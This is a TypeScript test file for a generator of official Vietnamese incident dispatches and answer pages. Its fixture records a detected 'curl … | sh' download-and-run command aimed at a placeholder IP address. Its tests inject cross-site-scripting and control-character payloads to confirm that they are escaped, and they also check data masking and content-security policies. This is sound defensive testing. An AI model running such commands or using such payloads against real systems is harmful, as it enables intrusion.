/** The printable dispatch and the page to answer on, as they are; what is put into them is text and nothing else. */
import path from 'node:path';
import { expect, test } from 'vitest';
import {
  answerPage,
  closedPage,
  ENTRY_POLICY,
  entryPage,
  PAGE_POLICY,
  thanksPage,
} from '../../../collector/request/answer-page.ts';
import { dispatchHtml, styleHash, type Dispatch } from '../../../collector/request/dispatch-html.ts';
import { DISPATCH_STYLE } from '../../../collector/request/dispatch-style.ts';
import { loadTemplates } from '../../../collector/request/load-templates.ts';
import { factsOf } from '../../../collector/request/finding-facts.ts';
import { fillTemplate } from '../../../collector/request/request-template.ts';

const CALENDAR = { timeZone: 'Asia/Ho_Chi_Minh' };
const at = (text: string): number => Date.parse(`${text}+07:00`);
const OFFICE = {
  superior: 'UBND tỉnh An Giang',
  name: 'Sở Khoa học và Công nghệ',
  symbol: 'SKHCN-CĐS',
  place: 'An Giang',
  capacity: ['KT. Giám đốc', 'Phó Giám đốc'],
  signer: 'Nguyễn Văn Ước',
  copies: ['Công an tỉnh (Phòng PA05)', 'Giám đốc Sở (để báo cáo)'],
  archive: 'VT, CĐS, lhvinh',
  contact: 'Phòng Chuyển đổi số, ông Trần Quốc Bửu, điện thoại (0296) 3 841 000',
};

export function exampleDispatch(change: Partial<Dispatch> = {}): Dispatch {
  const { templates } = loadTemplates([path.join(import.meta.dirname, '../../../rules/requests')]);
  const malware = templates.find(({ id }) => id === 'malware');
  if (malware === undefined) throw new Error('no template');
  const subjects = ['pc-vanthu-01', 'pc-ketoan-07'].map((hostname, place) => ({
    hostname,
    title: 'Lệnh tải mã lạ từ Internet rồi chạy',
    detail: 'curl -s http://203.0.113.9/x.sh | sh',
    advice: 'Cần kiểm tra tiến trình cha và kết nối ra ngoài của máy.',
    timeMs: at(`2026-11-26T08:1${place}`),
    firstMs: at('2026-11-26T08:10'),
    lastMs: at('2026-11-26T08:11'),
  }));
  const facts = factsOf(subjects, { agencyName: 'Sở Y tế', severity: 'high', calendar: CALENDAR });
  return {
    agencyName: 'Sở Y tế',
    ...fillTemplate(malware, facts),
    dueMs: at('2026-12-01T17:00'),
    office: OFFICE,
    fields: { number: '1234', day: '2026-11-26' },
    calendar: CALENDAR,
    subjects,
    year: 2026,
    ...change,
  };
}

test('the dispatch is, byte for byte, what was looked at on paper', async () => {
  await expect(dispatchHtml(exampleDispatch())).toMatchFileSnapshot('dispatch.html.golden');
});

test('what the office has not given stays blank, and is never made up', () => {
  const office = {
    ...OFFICE,
    superior: '',
    symbol: '',
    place: '',
    capacity: [],
    signer: '',
    copies: [],
    contact: '',
  };
  const page = dispatchHtml(exampleDispatch({ fields: { number: '', day: null }, office }));
  expect(page).toContain('<p class="number">Số:        </p>');
  expect(page).toContain('................, ngày       tháng       năm 2026');
  expect(page).not.toMatch(/\d+\/[A-ZĐ]/);
});

test.each([
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='x",
  '</style><script>',
  '</textarea><script>',
  '\u202Egnp.exe\u0000\u001b[31m',
])('%j anywhere is shown as text', (hostile) => {
  const office = Object.fromEntries(
    Object.entries(OFFICE).map(([key, value]) => [key, typeof value === 'string' ? hostile : [hostile]]),
  ) as unknown as Dispatch['office'];
  const subject = { hostname: hostile, title: hostile, detail: hostile, timeMs: 0 };
  const dispatch = dispatchHtml({
    ...exampleDispatch(),
    agencyName: hostile,
    title: hostile,
    body: hostile,
    steps: [hostile],
    office,
    fields: { number: hostile, day: '2026-11-26' },
    subjects: [subject],
  });
  const asked = {
    title: hostile,
    body: hostile,
    steps: [hostile],
    agencyName: hostile,
    dueMs: 0,
    calendar: CALENDAR,
    hosts: [hostile],
  };
  const typed = {
    name: hostile,
    text: hostile,
    steps: [{ outcome: hostile, note: hostile }],
    wrong: hostile,
  };
  for (const page of [dispatch, answerPage(asked, hostile), answerPage(asked, hostile, typed)]) {
    expect(page).not.toMatch(/<script|<img|onmouseover='x|\u202e|(?!\n)\p{Cc}/iu);
    expect([...page.matchAll(/<style>/g)]).toHaveLength(1);
    expect([...page.matchAll(/<\/style>/g)]).toHaveLength(1);
  }
});

test('the page to answer on masks personal data, runs nothing, and sends its form nowhere else', () => {
  const page = answerPage(
    {
      title: 'Kiểm tra máy',
      body: 'Người dùng 079203001234 gọi 0912345678',
      steps: ['Một', 'Hai'],
      agencyName: 'Sở Y tế',
      dueMs: at('2026-12-01T17:00'),
      calendar: CALENDAR,
      hosts: ['pc-01', 'pc-01'],
    },
    'code',
  );
  expect(page).not.toMatch(/079203001234|0912345678|<script|http/);
  expect(page).toContain('Máy: pc-01.');
  expect([...page.matchAll(/type="radio"/g)]).toHaveLength(6);
  expect(PAGE_POLICY).toMatch(/default-src 'none'; style-src 'sha256-[^']+'; form-action 'self'/);
  for (const style of [page, thanksPage(), closedPage()].map(
    (one) => /<style>([^]*)<\/style>/.exec(one)?.[1] ?? '',
  ))
    expect(PAGE_POLICY).toContain(styleHash(style));
  const script = /<script>([^]*)<\/script>/.exec(entryPage())?.[1] ?? '';
  expect(ENTRY_POLICY).toContain(`script-src ${styleHash(script)};`);
  expect(styleHash(DISPATCH_STYLE)).toMatch(/^'sha256-/);
});
